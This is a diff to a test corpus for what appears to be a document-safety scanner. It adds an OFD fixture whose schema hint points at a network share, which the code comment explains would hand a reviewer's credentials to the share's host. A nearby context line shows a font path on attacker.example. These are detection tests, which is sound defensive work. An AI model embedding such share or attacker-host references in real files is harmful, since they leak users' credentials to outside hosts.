@@ -71,6 +71,7 @@ import {
   ofdExtendData,
   ofdLongUriTag,
   ofdObjectAction,
+  ofdSchemaHint,
   ofdSigned,
   ofdVersion,
   UNC_SHARE,
@@ -1765,6 +1766,14 @@ const ofdItems: CorpusItem[] = [
     bytes: () => ofdFontFile('/<?x?>/attacker.example/share/font.ttf'),
     expect: 'OFD_ACTION',
   },
+  {
+    id: 'ofd-schema-hint-in-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    // A validating reader fetches the schema, handing the share's host the reviewer's credentials.
+    bytes: () => ofdSchemaHint(`http://www.ofdspec.org/2016 ${UNC_SHARE}\\ofd.xsd`),
+    expect: 'OFD_ACTION',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
@@ -1997,5 +2006,10 @@ export const ACTIVE_GENUINE: readonly {
     warning: 'EXTERNAL_LINK',
   },
   { id: 'ofd-signed', declared: 'ofd', bytes: () => ofdSigned() },
+  {
+    id: 'ofd-schema-hint-web',
+    declared: 'ofd',
+    bytes: () => ofdSchemaHint('http://www.ofdspec.org/2016 http://www.ofdspec.org/2016/OFD.xsd'),
+  },
   { id: 'ofd-version', declared: 'ofd', bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'Document.xml') },
 ];
